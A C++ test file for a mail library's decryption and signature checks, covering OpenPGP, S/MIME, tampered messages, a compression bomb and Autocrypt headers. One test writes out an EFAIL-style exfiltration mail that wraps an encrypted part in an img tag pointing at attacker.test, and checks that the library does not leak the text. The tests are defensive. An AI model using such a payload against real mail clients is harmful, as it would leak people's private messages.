#include "mail/open_letter.h"

#include "mail/compose.h"
#include "mail/parse.h"
#include "mail/pgp.h"
#include "mail/protect.h"
#include "mail/remote_images.h"
#include "mail/wrapping.h"

#include <doctest/doctest.h>

#include <random>

namespace tandem::mail {
namespace {

const Time noon = from_millis(1'700'000'000'000);
constexpr auto year = std::chrono::hours(24 * 365);

std::string letter() {
    return compose(
        {.from = {"Mina", "mina@customer.test"},
         .to = {{"Shop", "help@shop.test"}},
         .subject = "Where is my kettle?",
         .message_id = "1@customer.test",
         .date = noon,
         .text = "It leaks.\nGrüße, Mina\n",
         .html = "<p>It <b>leaks</b>.</p>",
         .attachments = {{.filename = "leak.txt", .content_type = "text/plain", .bytes = "drip"}}});
}

// Keys take their time: made once for all cases.
struct PgpPerson {
    explicit PgpPerson(const std::string& address) : passphrase("pass of " + address) {
        PgpRing ring;
        fingerprint = ring.make("", address, passphrase, year).fingerprint;
        public_key = ring.public_key(fingerprint);
        private_key = ring.private_key(fingerprint, passphrase);
    }
    PgpSigner signer() const { return {private_key, passphrase, fingerprint}; }
    PgpIdentity identity() const { return {private_key, passphrase}; }

    std::string passphrase, fingerprint, public_key, private_key;
};
const PgpPerson& mina() {
    static const PgpPerson person("mina@customer.test");
    return person;
}
const PgpPerson& shop() {
    static const PgpPerson person("help@shop.test");
    return person;
}

const SmimeIdentity& certified(const std::string& address) {
    static const auto mina_ = make_identity("Mina", "mina@customer.test", noon, year * 20);
    static const auto shop_ = make_identity("Shop", "help@shop.test", noon, year * 20);
    return address.starts_with("mina") ? mina_ : shop_;
}

LetterKeys shop_keys() {
    return {.pgp = {shop().identity()},
            .pgp_known = {mina().public_key},
            .smime = {certified("help@shop.test")}};
}

void check_readable(const std::string& raw) {
    const auto mail = parse(raw);
    CHECK(mail.subject == "Where is my kettle?");
    CHECK(mail.text.find("Grüße, Mina") != std::string::npos);
    CHECK(mail.html.has_value());
    REQUIRE(mail.attachments.size() == 1);
    CHECK(mail.attachments[0].filename == "leak.txt");
    CHECK(mail.message_id == "1@customer.test");
}

std::string replaced(std::string text, std::string_view from, std::string_view to) {
    const auto at = text.find(from);
    REQUIRE(at != std::string::npos);
    return text.replace(at, from.size(), to);
}

TEST_CASE("an OpenPGP letter that is signed and sealed reads like the letter it was") {
    const auto raw =
        pgp_sealed(pgp_signed(letter(), mina().signer()), {shop().public_key, mina().public_key});
    CHECK(raw.find("kettle") == std::string::npos);
    CHECK(raw.find("Subject: ...") != std::string::npos);

    const auto opened = open_letter(raw, shop_keys());
    CHECK(opened.was_wrapped);
    CHECK(opened.sealed == SealScheme::pgp);
    CHECK(opened.failure == OpenFailure::none);
    CHECK_FALSE(opened.is_malleable);
    REQUIRE(opened.signatures.size() == 1);
    CHECK(opened.signatures[0].state == SignatureState::good);
    CHECK(opened.signatures[0].fingerprint == mina().fingerprint);
    CHECK(opened.signatures[0].addresses == std::vector<std::string>{"mina@customer.test"});
    check_readable(opened.raw);
}

TEST_CASE("a signature is good, broken, or by nobody we know") {
    const auto raw = pgp_signed(letter(), mina().signer());
    const auto state = [&](const std::string& text, const LetterKeys& keys) {
        const auto opened = open_letter(text, keys);
        REQUIRE(opened.signatures.size() == 1);
        return opened.signatures[0].state;
    };
    CHECK(state(raw, shop_keys()) == SignatureState::good);
    CHECK(state(replaced(raw, "It leaks", "It works"), shop_keys()) == SignatureState::broken);
    CHECK(state(raw, {}) == SignatureState::unknown_key);
    CHECK(state(replaced(raw, "BEGIN PGP SIGNATURE", "BEGIN NOTHING"), shop_keys()) ==
          SignatureState::broken);
    check_readable(open_letter(raw, {}).raw);
}

TEST_CASE("what servers do to line ends breaks no signature") {
    auto raw = pgp_signed(letter(), mina().signer());
    std::erase(raw, '\r');
    CHECK(open_letter(raw, shop_keys()).signatures.at(0).state == SignatureState::good);
}

TEST_CASE("what cannot be opened stays as it came, with the reason") {
    const auto raw = pgp_sealed(letter(), {mina().public_key});
    const auto opened = open_letter(raw, shop_keys());
    CHECK(opened.failure == OpenFailure::no_key);
    CHECK(opened.sealed == SealScheme::pgp);
    CHECK_FALSE(opened.reason.empty());
    CHECK(opened.raw == raw);
    CHECK(open_letter(raw, {}).failure == OpenFailure::no_key);
    const auto wrong = open_letter(raw, {.pgp = {{mina().private_key, "wrong"}}});
    CHECK(wrong.failure == OpenFailure::no_key);

    const auto mail = parse(raw);
    CHECK(mail.attachments.size() == 2);
    CHECK(mail.attachments.back().filename == "encrypted.asc");
}

TEST_CASE("what was cut off or changed on the way is broken, and is not shown") {
    const auto raw = pgp_sealed(letter(), {shop().public_key});
    const auto end = raw.find("-----END PGP");
    for (const auto& broken :
         {raw.substr(0, raw.size() / 2), raw.substr(0, end - 60) + "\r\n" + raw.substr(end),
          replaced(raw, "-----BEGIN PGP MESSAGE-----\r\n\r\n",
                   "-----BEGIN PGP MESSAGE-----\r\n\r\nAAAA\r\n")}) {
        CAPTURE(broken);
        const auto opened = open_letter(broken, shop_keys());
        CHECK(opened.failure != OpenFailure::none);
        CHECK(parse(opened.raw).text.find("leaks") == std::string::npos);
    }
}

TEST_CASE("a bomb is let go off outside of us") {
    const auto raw = pgp_sealed(compose({.from = {"", "mina@customer.test"},
                                         .to = {{"", "help@shop.test"}},
                                         .subject = "Boom",
                                         .message_id = "2@customer.test",
                                         .date = noon,
                                         .text = std::string(3'000'000, 'a')}),
                                {shop().public_key});
    CHECK(raw.size() < 100'000);
    const auto opened = open_letter(raw, shop_keys(), {.bytes = 1'000'000});
    CHECK(opened.failure == OpenFailure::too_large);
}

TEST_CASE("armour in a plain text is read when nothing stands around it") {
    PgpRing ring;
    ring.add(shop().public_key);
    const auto armour = ring.seal("The kettle leaks.\n", {shop().fingerprint});
    const std::string head =
        "From: mina@customer.test\r\nTo: help@shop.test\r\nSubject: Kettle\r\n\r\n";
    const auto opened = open_letter(head + armour, shop_keys());
    CHECK(opened.sealed == SealScheme::pgp);
    CHECK(parse(opened.raw).text.find("The kettle leaks.") != std::string::npos);
    CHECK(parse(opened.raw).subject == "Kettle");

    CHECK_FALSE(open_letter(head + "Look:\r\n" + armour, shop_keys()).was_wrapped);
    CHECK_FALSE(open_letter(head + armour + "\r\nAnd this.", shop_keys()).was_wrapped);
}

TEST_CASE("a sealed part among others is an attachment: its neighbours learn nothing of it") {
    const auto sealed = pgp_sealed(letter(), {shop().public_key});
    const auto type = sealed.find("MIME-Version:");
    const auto raw =
        "From: evil@attacker.test\r\nSubject: Hi\r\nMIME-Version: 1.0\r\nContent-Type: "
        "multipart/mixed; boundary=\"x\"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
        "<img src=\"https://attacker.test/?\r\n--x\r\n" +
        sealed.substr(type) + "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n";
    const auto opened = open_letter(raw, shop_keys());
    CHECK_FALSE(opened.was_wrapped);
    const auto mail = parse(opened.raw);
    CHECK(mail.text.find("leaks") == std::string::npos);
    CHECK(mail.html.value_or("").find("leaks") == std::string::npos);
}

TEST_CASE("S/MIME: signed, sealed, and both") {
    const auto signed_letter = smime_signed(letter(), certified("mina@customer.test"));
    auto opened = open_letter(signed_letter, {});
    REQUIRE(opened.signatures.size() == 1);
    CHECK(opened.signatures[0].state == SignatureState::good);
    CHECK(opened.signatures[0].addresses == std::vector<std::string>{"mina@customer.test"});
    CHECK_FALSE(opened.signatures[0].is_vouched);
    CHECK(read_certificate(opened.signatures[0].certificate).has_value());
    check_readable(opened.raw);
    CHECK(open_letter(replaced(signed_letter, "It leaks", "It works"), {}).signatures.at(0).state ==
          SignatureState::broken);

    const auto sealed = smime_sealed(signed_letter, {certified("help@shop.test").certificate,
                                                     certified("mina@customer.test").certificate});
    opened = open_letter(sealed, shop_keys());
    CHECK(opened.sealed == SealScheme::smime);
    CHECK(opened.failure == OpenFailure::none);
    CHECK(opened.signatures.at(0).state == SignatureState::good);
    CHECK_FALSE(opened.is_malleable);
    check_readable(opened.raw);

    CHECK(open_letter(sealed, {}).failure == OpenFailure::no_key);
    CHECK(open_letter(sealed.substr(0, sealed.size() * 2 / 3), shop_keys()).failure ==
          OpenFailure::broken);
}

TEST_CASE("S/MIME that nobody signed could have been changed on the way, and says so") {
    const auto sealed = smime_sealed(letter(), {certified("help@shop.test").certificate});
    const auto opened = open_letter(sealed, shop_keys());
    CHECK(opened.failure == OpenFailure::none);
    CHECK(opened.is_malleable);
    CHECK(opened.signatures.empty());
}

TEST_CASE("a certificate that had expired when it signed") {
    const auto old = make_identity("Mina", "mina@customer.test", from_millis(1'000'000'000'000),
                                   std::chrono::hours(1));
    const auto opened = open_letter(smime_signed(letter(), old), {});
    CHECK(opened.signatures.at(0).state == SignatureState::expired_key);
}

TEST_CASE("private keys are read from what people have, with the right passphrase only") {
    const auto& own = certified("help@shop.test");
    CHECK(read_identity(own.certificate + own.private_key, "").has_value());
    CHECK_FALSE(read_identity(own.certificate, "").has_value());
    CHECK_FALSE(read_identity(own.certificate + certified("mina@customer.test").private_key, "")
                    .has_value());
    CHECK_FALSE(read_identity("rubbish", "").has_value());
}

TEST_CASE("our key goes along in a header that others' programs read") {
    const auto value = autocrypt_value("help@shop.test", shop().public_key);
    const auto found = read_autocrypt(value);
    REQUIRE(found);
    CHECK(found->address == "help@shop.test");
    PgpRing ring;
    const auto keys = ring.add(found->key);
    REQUIRE(keys.size() == 1);
    CHECK(keys[0].fingerprint == shop().fingerprint);
    CHECK_FALSE(keys[0].is_private);

    CHECK_FALSE(read_autocrypt("addr=a@x; critical=1; keydata=AAAA").has_value());
    CHECK_FALSE(read_autocrypt("addr=a@x").has_value());
    CHECK_FALSE(read_autocrypt("").has_value());
}

TEST_CASE("nothing of a sealed letter can be asked for from elsewhere") {
    CHECK(without_remote_images("<p>a</p><img data-remote-src=\"https://x.test/a\" alt=\"b\">") ==
          "<p>a</p><img alt=\"b\">");
    CHECK(without_remote_images("a data-remote-src b").find("data-remote") == std::string::npos);
}

TEST_CASE("property: whatever bytes come, opening answers something") {
    const auto good = pgp_signed(letter(), mina().signer());
    const auto sealed = smime_sealed(letter(), {certified("help@shop.test").certificate});
    const LetterKeys keys{.smime = {certified("help@shop.test")}};
    for (unsigned seed = 0; seed < 60; ++seed) {
        CAPTURE(seed);
        std::mt19937 random(seed);
        auto raw = seed % 6 == 0 ? good : sealed;
        for (int i = 0; i < 5; ++i) raw[random() % raw.size()] = static_cast<char>(random());
        if (seed % 3 == 0) raw.resize(random() % raw.size());
        const auto opened = open_letter(raw, keys);
        CHECK((opened.was_wrapped || opened.raw == raw));
    }
}

}  // namespace
}  // namespace tandem::mail
